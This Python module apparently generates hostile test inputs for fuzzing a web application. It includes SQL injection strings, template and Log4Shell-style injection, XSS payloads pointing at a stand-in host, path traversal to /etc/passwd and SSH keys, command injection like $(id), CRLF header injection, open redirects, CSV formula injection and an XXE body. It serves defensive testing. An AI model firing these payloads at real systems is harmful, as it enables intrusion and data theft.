"""What strangers type: hostile texts by family, and hostile bodies of requests.

A text has MARK in it wherever that does not change what it is, so that it is known again in an answer and in a log.
"""

# ruff: noqa: E501  tables
import json
from collections.abc import Iterator
from itertools import product
from typing import Any, NamedTuple

MARK = "zq7x"
ELSEWHERE = "elsewhere-zq7x.example"
"""A host that no answer may lead to."""
PRODUCT = "1336336"
"""What 1156 * 1156 is: where it is read, something has reckoned with what was typed."""


class Payload(NamedTuple):
    family: str
    value: Any
    """A text or bytes for any field; anything else for a field of JSON."""


class Body(NamedTuple):
    family: str
    content_type: str
    data: bytes


_QUOTES = ("'", '"', "')", "\\'", "`", "$$")
_STATEMENTS = (
    f" OR '{MARK}'='{MARK}' --", f"; DROP TABLE accounts_user; -- {MARK}", f" UNION SELECT password, '{MARK}' FROM accounts_user --",
    f"; SELECT pg_sleep(9) -- {MARK}", f" AND 1=CAST((SELECT version()) AS int) -- {MARK}", f" || lo_import('/etc/passwd') || '{MARK}",
)  # fmt: skip
_TEMPLATES = (
    "{{ 1156 * 1156 }}", "{{1156*1156}}", "{% widthratio 1156 1 1156 %}", "{% debug %}", "{% load log %}{{ settings.SECRET_KEY }}",
    "{% include '/etc/passwd' %}", "${1156*1156}", "#{1156*1156}", "<%= 1156*1156 %>", "@(1156*1156)", "*{1156*1156}",
    "{{ request.user.password }}", "{{ ''.__class__.__mro__ }}", "[[1156*1156]]", "{php}echo 1156*1156;{/php}", "${jndi:ldap://" + ELSEWHERE + "/a}",
)  # fmt: skip
_FORMATS = (
    "%s%s%s%s", "%n%n%n", "%(password)s", "%(name)d", "%", "%%", "%c", "%99999999d", "{0}", "{}", "{0.__class__.__init__.__globals__}",
    "{password}", "{:>999999999}", "{!r}", "%x" * 20, "{{}}", "}{", "$name", "${PATH}", "%PATH%", "%1$s", "\\1\\g<0>",
)  # fmt: skip
_SCRIPT = f"{MARK}()"
_XSS = (
    f"<script>{_SCRIPT}</script>", f"<ScRiPt src=//{ELSEWHERE}></sCrIpT>", f"</title><script>{_SCRIPT}</script>", f"</textarea><svg onload={_SCRIPT}>",
    f"<img src=x onerror={_SCRIPT}>", f'"><b on{MARK}=1>', f"'><b on{MARK}=1>", f'" on{MARK}="1', f"' on{MARK}='1", f"x on{MARK}=1 autofocus",
    f"javascript:{_SCRIPT}", f"jAvAsCrIpT&colon;{_SCRIPT}", f"java\tscript:{_SCRIPT}", f"data:text/html,<script>{_SCRIPT}</script>", f"vbscript:{_SCRIPT}",
    f"<!--><{MARK}>", f"--><{MARK}>", f"]]><{MARK}>", f"<{MARK}/", f"<iframe srcdoc='<{MARK}>'>", f"<a href=//{ELSEWHERE}>{MARK}</a>",
    f"<form action=//{ELSEWHERE}><input name={MARK}>", f"<meta http-equiv=refresh content=0;//{ELSEWHERE}>", f"<base href=//{ELSEWHERE}/>",
    f"<link rel=stylesheet href=//{ELSEWHERE}>", f"<style>*{{background:url(//{ELSEWHERE})}}</style>", f"&lt;{MARK}&gt;", f"&#60;{MARK}&#62;", f"\\x3c{MARK}\\x3e",
    f"\\u003c{MARK}\\u003e", f"%3C{MARK}%3E", f"%253C{MARK}%253E", f"＜{MARK}＞", f"<{MARK} hx-get=/machine/key/ hx-trigger=load>", f"<div hx-on:load={_SCRIPT}>",
    f"</script><{MARK}>", f"\u2028{_SCRIPT}\u2029", f"<x:{MARK} xmlns:x='http://www.w3.org/1999/xhtml'>", f"<math><{MARK}></math>", f"<{MARK}\x0bonload={_SCRIPT}>",
)  # fmt: skip
_BREAKS = ("\r\n", "\n", "\r", "%0d%0a", "%0A", "\\r\\n", "\u2028", "\x85", "\r\n\t", "嘊嘍", "\x0b", "\x1c")
_HEADERS = (f"Set-Cookie: {MARK}=1", f"Location: //{ELSEWHERE}", f"X-{MARK}: 1", f"Bcc: {MARK}@{ELSEWHERE}")
_PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%252e%252e%252fetc%252fpasswd", "....//....//etc/passwd",
    "/etc/passwd", "/proc/self/environ", "file:///etc/passwd", "..%c0%af..%c0%afetc/passwd", "..%00/etc/passwd", "/etc/passwd\x00.png", "~/.ssh/id_rsa", "CON",
    "C:\\boot.ini", "\\\\" + ELSEWHERE + "\\share", "static/../../settings.py", "./././", "/dev/zero", "|id", ";id", "$(id)", "`id`", "&& id", "id\n",
)  # fmt: skip
_REDIRECTS = (
    "//{}", "\\\\{}", "/\\{}", "\\/{}", "https://{}", "http:{}", "https:/{}", "https:///{}", "///{}", "////{}", "/\t/{}", "/%09/{}", "/%2f{}", "//{}/%2e%2e",
    "https://testserver@{}", "https://{}#testserver", "https://{}?testserver", "https://testserver.{}", "//{}\\@testserver", "//google%E3%80%82{}", " //{}", "\x01//{}",
    "javascript://{}/%0aalert(1)", "data://{}", "ftp://{}", "//{}:80", "//user:pass@{}", "HTTPS://{}", "https:\\\\{}", "/.//{}", "/..//{}", "//%5b::1%5d@{}", "ht\ntps://{}",
)  # fmt: skip
_UNICODE = (
    "\u202egnp.exe", "\u2066\u2069", "\u200b", "a\u200bb", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u115f", "\u3164", "\uffa0", "\u180e", "\u061c", "\u200e\u200f",
    "e" + "\u0301" * 50, "Z̸̢a͕l̛g̕o͢", "ﬁ", "①②③", "ℌ", "Å", "A\u030a", "ß", "İ", "ı", "ſ", "K", "각", "\u1100\u1161\u11a8", "한글" * 40, "👩‍👩‍👧‍👦", "🇰🇷", "\U0001f468\u200d",
    "\U0010ffff", "\ufffe", "\uffff", "\ufdd0", "\ufffd", "\ud800", "\udfff", "\ud83d", "\udc00\ud800", "\ue000", "\U000e0041", "\u0600", "٣", "１２", "аdmin", "раураl",
    "ａｌｉｃｅ＠ｅｘａｍｐｌｅ．ｏｒｇ", "\u0000", "\u0085", "\u2028", "\u2029", "\ua67c", "\ufe0f", "\u20dd", "\ufdfa" * 9,
)  # fmt: skip
_BYTES = (
    b"\xc0\x80", b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xff\xfe<\x00", b"\x80", b"\xbf", b"\xc3",
    b"\xe2\x82", b"\xfe\xff", b"\xc1\xbf", b"\x8f\xa1", b"+ADw-zq7x+AD4-", b"\x1b$B", b"\xb1\xb9\xb9\xae", b"\xef\xbb\xbfx", b"\xf0\x9f\x92",
)  # fmt: skip
_NUMBERS = (
    "NaN", "nan", "Infinity", "-inf", "1e309", "-1e309", "-0", "-0.0", "0", "-1", "00", "007", "1_000", "1,000", "1.000,5", "0x10", "0b1", "0o7", "1e3", "1e-400", "½", "٣٤", "１",
    "²", "9" * 18, "9" * 40, "9" * 5000, str(2**31 - 1), str(2**31), str(2**53 + 1), str(2**63 - 1), str(2**63), str(2**64), str(-(2**63) - 1), "1.5", "1.", ".5", "+1", "--1", " 1",
    "1 ", "1\n", "0.1" + "0" * 400 + "1", "1e99999999", "sNaN", "None", "null", "true", "undefined", "[]", "{}", "1;2", "1' '", "∞", "1e", "#REF!", "0.0000000000000001", "1d3", "1j",
)  # fmt: skip
_DATES = (
    "0000-00-00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z", "10000-01-01", "2027-02-29", "2027-02-30T00:00Z", "2027-13-01", "2027-01-01T24:00:00Z", "2027-01-01T23:59:60Z",
    "2027-01-01T00:00:00+99:99", "2027-01-01T00:00:00+23:59", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "-0001-01-01", "2027-W01-1", "2027-001", "01/02/03", "1e10",
    "now", "tomorrow", "P1D", "PT1e9H", "2027-03-28T02:30:00[Europe/Berlin]", "٢٠٢٧-٠١-٠١", "2027-01-01 00:00", "1970-01-01T00:00:00Z", "23:60", "25:00", "24:00", "00:00:00.0000000001", "-1:00",
)  # fmt: skip
_CSV = ("=1156*1156", "+1156*1156", "-1156+1156", "@SUM(1156*1156)", f"=HYPERLINK(\"//{ELSEWHERE}\",\"{MARK}\")", f"=cmd|'/c calc'!{MARK}", "\t=1+1", "\r=1+1", '"=1+1"', "＝1+1", ";=1+1", "%0A=1+1", "'=1+1", "+cmd|' /C calc'!A0")  # fmt: skip
_ADDRESSES = (
    "a@b", "@", "a@", "@b.example", "a@@b.example", "a b@c.example", "a@b.example\n", f"a@b.example\r\nBcc: {MARK}@c.example", "a@b.example,c@d.example", "a@b.example;c@d.example", '"a@b"@c.example',
    '"a b"@c.example', "a@[127.0.0.1]", "a@[::1]", "a@localhost", "a@b..example", ".a@b.example", "a.@b.example", "a..b@c.example", "-a@-b.example", "a@b.example.", "A@B.EXAMPLE", "а@b.example", "a@bücher.example",
    "a@xn--bcher-kva.example", "a@xn--\u202e.example", "a+b@c.example", "a%b@c.example", "a!b@c.example", "<a@b.example>", f"A <a@b.example> {MARK}", "a@b.example (c)", "mailto:a@b.example", "a@" + "b" * 64 + ".example",
    "a" * 65 + "@b.example", "a@" + "b." * 130 + "example", "bob@example.org", "BOB@example.org", "bob@EXAMPLE.ORG", "bob@example.org\u200b", "ｂob@example.org", "bob+1@example.org", "alice@example.org\x00",
)  # fmt: skip
_CIDRS = (
    "0.0.0.0/0", "::/0", "0.0.0.0/1", "10.0.0.0/8", "127.0.0.1/32", "169.254.169.254", "224.0.0.1", "255.255.255.255", "203.0.113.7/33", "203.0.113.7/-1", "203.0.113.7/24", "203.0.113.0/255.255.255.0", "203.0.113.0/0.0.0.255",
    "203.0.113.07", "0xcb007107", "3405803783", "203.0.113", "203.0.113.7.8", "203.0.113.256", "2001:db8::/129", "2001:db8::1%eth0", "::ffff:203.0.113.7", "::ffff:0:0/96", "64:ff9b::/96", "fe80::1", "2001:db8:::1", "[2001:db8::1]",
    "2001:db8::1/", "/24", "203.0.113.7/24/24", "203.0.113.7/١٢", "２０３.0.113.7", "203.0.113.7,0.0.0.0/0", "203.0.113.7 0.0.0.0/0", "203.0.113.7\n0.0.0.0/0", "any", "*", "sg-0123456789abcdef0", "pl-12345678", "203.0.113.7/0032",
)  # fmt: skip
_KEYS = (
    "ssh-rsa", "ssh-rsa AAAA", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA==", "ssh-dss AAAAB3NzaC1kc3MAAACB", "ssh-rsa " + "A" * 9000, 'command="id" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA==', "ssh-ed25519 AAAA\nssh-ed25519 AAAA",
    "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----", "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----", "---- BEGIN SSH2 PUBLIC KEY ----\nAAAA\n---- END SSH2 PUBLIC KEY ----",
    "PuTTY-User-Key-File-3: ssh-rsa", "cert-authority ssh-rsa AAAA", "ssh-rsa-cert-v01@openssh.com AAAA", "sk-ssh-ed25519@openssh.com AAAA", "# ssh-rsa AAAA", "ssh-rsa\x00AAAA", "ssh-ed25519 ====", "AAAAB3NzaC1yc2EAAAADAQAB",
)  # fmt: skip
_ZONES = ("Asia/Seoul\x00", "../../etc/localtime", "/etc/localtime", "Asia/Nowhere", "posixrules", "EST5EDT,M3.2.0,M11.1.0", "UTC+99", "Etc/GMT-15", "asia/seoul", "Factory", "Asia/Seoul ", "* * * * *", "*/0 * * * *", "@reboot", "60 24 32 13 8", "0 0 31 2 *")  # fmt: skip
_IDS = (
    "1", "2", "3", "0", "-1", "me", "*", "all", "alice@example.org", "i-00000000000000001", "00000000-0000-0000-0000-000000000000", "arn:aws:iam::123456789012:role/Admin", "sg-0123456789abcdef0",
    "on", "ADMIN", "APPROVED", "is_superuser", "administrate", "__all__", "__proto__", "constructor", "admin", "root", "-", "1,2,3", "1 OR 1", "[1,2]", "t3.metal", "x1e.32xlarge", "t3.small'",
)  # fmt: skip
_HOSTS = (
    ELSEWHERE, f"testserver:80@{ELSEWHERE}", f"testserver.{ELSEWHERE}", f"{ELSEWHERE}, testserver", "127.0.0.1", "[::1]", "localhost:0", "169.254.169.254", "testserver:99999", "..", "", " ", "a" * 5000, f"for={ELSEWHERE};proto=https;host={ELSEWHERE}",
    "https", "203.0.113.9, 10.0.0.1", "/admin/people/", "DELETE", "PATCH", "TRACE", f"sessionid={MARK}", "sessionid=" + "a" * 32, "language=xx; language=ko", "csrftoken=" + "a" * 64, f"messages={MARK}", "=;=;;", '"\\303\\251"',
    "Bearer", "Bearer ondol_", f"Bearer {MARK}", "Basic YWxpY2U6YQ==", "bearer null", "Bearer \u00e9", "text/html;q=0", "*/*;q=1e309", "multipart/form-data", "application/json; charset=utf-7", "text/html; charset=x-nowhere", "bytes=0-,0-,0-", "gzip, br;q=zq7x", "chunked", "ko-KP-x-zq7x",
)  # fmt: skip
_LONG = ("a" * 300, "a" * 5000, "a " * 4000, "<" * 3000, "(" * 3000, "&" * 3000, "/" * 3000, "%" * 3000, "." * 3000, "@" * 3000, "-" * 3000, "0" * 3000, "\\" * 3000, "a@" * 2000, "::" * 2000, "한" * 3000, "\t" * 3000, "a" * 200_000)  # fmt: skip
_TEXTS = {
    "template": _TEMPLATES, "format": _FORMATS, "script": _XSS, "path": _PATHS, "unicode": _UNICODE, "bytes": _BYTES, "number": _NUMBERS, "date": _DATES, "CSV": _CSV,
    "e-mail": _ADDRESSES, "range": _CIDRS, "key": _KEYS, "zone": _ZONES, "id": _IDS, "header": _HOSTS, "long": _LONG,
}  # fmt: skip
_JSON: tuple[Any, ...] = (
    None, True, False, 0, -0.0, 1, -1, 1.5, 2**31, 2**53 + 1, 2**63, -(2**63) - 1, 2**70, 10**400, float("nan"), float("inf"), -float("inf"), 1e308, [], {}, [None], [[]], ["a"], {"a": None}, {"": ""},
    {"__proto__": {"role": "ADMIN"}}, {"$ne": None}, {"$gt": ""}, {"id": 1, "pk": 1}, ["ADMIN"] * 100, {"a": {"b": {"c": [1]}}}, list(range(3000)), {str(n): n for n in range(3000)}, [{"a": 1}] * 500,
)  # fmt: skip


def texts() -> list[Payload]:
    """Return what goes into a field, each once; `None` and numbers only where a field is JSON."""
    families: list[tuple[str, Any]] = [(family, value) for family, values in _TEXTS.items() for value in values]
    families += [("SQL", quote + tail) for quote, tail in product(_QUOTES, _STATEMENTS)]
    families += [("line break", f"{MARK}{end}{header}") for end, header in product(_BREAKS, _HEADERS)]
    families += [("control", f"a{chr(n)}b") for n in (*range(32), 127, *range(0x80, 0xA0, 5))]
    families += [("redirect", pattern.format(ELSEWHERE)) for pattern in _REDIRECTS]
    families += [("JSON", value) for value in _JSON]
    found = {(repr(value), type(value)): Payload(family, value) for family, value in families}
    return list(found.values())


def bodies(fields: dict[str, str]) -> list[Body]:
    """Return whole requests that a form or an operation with these fields is sent."""
    return list({(body.content_type, body.data): body for body in (*_as_json(fields), *_as_forms(fields))}.values())


def _as_json(fields: dict[str, str]) -> Iterator[Body]:
    name = json.dumps(next(iter(fields), "a")).encode()
    good = json.dumps(fields).encode()
    yield from (Body("deep", "application/json", (s * 3000) + (e * 3000)) for s, e in ((b"[", b"]"), (b"[", b"")))
    yield Body("deep", "application/json", b'{"a":' * 3000 + b"1" + b"}" * 3000)
    yield Body("deep", "application/json", b"{" + name + b":" + b"[" * 900 + b"]" * 900 + b"}")
    yield Body("huge", "application/json", b'{"a":"' + b"a" * 900_000 + b'"}')
    yield Body("huge", "application/json", b'{"a":"' + b"a" * 6_000_000 + b'"}')
    yield Body("huge", "application/json", b"[" + b"1," * 200_000 + b"1]")
    yield Body("duplicate", "application/json", b"{" + name + b':"a",' + name + b':"b"}')
    broken = (b"", b" ", b"null", b"0", b"[]", b'""', b"{", b"{}", b"{,}", b"{'a':1}", b"{a:1}", b'{"a":1}{', b'{"a":1,}', b"NaN", b"\xef\xbb\xbf{}", b"\xff\xfe{\x00}\x00", b'{"a":"\xff"}', b'{"a":"\\ud800"}', b'{"a":"\\u0000"}', b'{"\\u0000":1}', b"9" * 5000, b"-", b"1e999999999", b"//", b"/**/{}", b"\x00", b'{"a":1}\x00')  # fmt: skip
    yield from (Body("broken JSON", "application/json", data) for data in broken)
    types = ("", "text/plain", "text/xml", "application/xml", "application/json; charset=utf-16", "application/json;charset=nowhere", "application/x-yaml", "APPLICATION/JSON", "application/json, text/html", "application/x-python-serialize", "application/merge-patch+json", ";", "a", "multipart/form-data", "multipart/mixed; boundary=b", "application/x-www-form-urlencoded; charset=utf-16", "application/x-www-form-urlencoded; charset=nowhere", "\x7f/\x7f")  # fmt: skip
    yield from (Body("content type", kind, good) for kind in types)
    yield Body("XML", "text/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')
    yield Body("object", "application/x-python-serialize", b"\x80\x04\x95.")


def _as_forms(fields: dict[str, str]) -> Iterator[Body]:
    name = next(iter(fields), "a").encode()
    form = "application/x-www-form-urlencoded"
    odd = (b"", b"&", b"=", b"&&==&&", b"%", b"%zz=%", b"a", b"=a", name + b"=1&" + name + b"=2", name + b"[]=1", name + b"[a]=1", b"a=1;" + name + b"=2", b"&".join([name + b"=1"] * 900), b"&".join(b"f%d=1" % n for n in range(2000)), name + b"=%00", name + b"=%ff%fe", name + b"=+", b"\x00=\x00", name + b"=" + b"a" * 3_000_000, b"csrfmiddlewaretoken=" + b"a" * 4000, b"_method=DELETE&" + name + b"=1")  # fmt: skip
    yield from (Body("form", form, data) for data in odd)
    multipart = "multipart/form-data; boundary=b"

    def part(disposition: bytes, data: bytes = b"1", more: bytes = b"") -> bytes:
        return b"--b\r\nContent-Disposition: " + disposition + b"\r\n" + more + b"\r\n" + data + b"\r\n"

    named = b'form-data; name="' + name + b'"'
    parts = (
        part(named), part(named) * 2, part(named + b'; filename="../../a"'), part(named + b'; filename="a\x00.txt"'), part(b"form-data"), part(b""), part(b"form-data; name"), part(b'form-data; name="'),
        part(named, b"\x00\xff"), part(named, more=b"Content-Transfer-Encoding: base64\r\n"), part(named, b"!!!", b"Content-Transfer-Encoding: base64\r\n"), part(named, more=b"Content-Type: text/plain; charset=nowhere\r\n"),
        part(named, more=b"Content-Type: multipart/mixed; boundary=c\r\n"), part(named + b"; name*=utf-7''+ADw-"), part(named + b"; filename*=utf-8''%ff"), part(named) * 1200, part(named + b'; filename="a"', b"a" * 100_000), part(named, more=b"X: " + b"a" * 9000 + b"\r\n"),
    )  # fmt: skip
    yield from (Body("multipart", multipart, data + b"--b--\r\n") for data in parts)
    yield Body("multipart", multipart, part(named))
    kinds = ("multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=" + "b" * 300, "multipart/form-data; boundary=\xe9", 'multipart/form-data; boundary="', "multipart/form-data; boundary=b; boundary=c; charset=nowhere")  # fmt: skip
    yield from (Body("multipart", kind, part(named) + b"--b--\r\n") for kind in kinds)
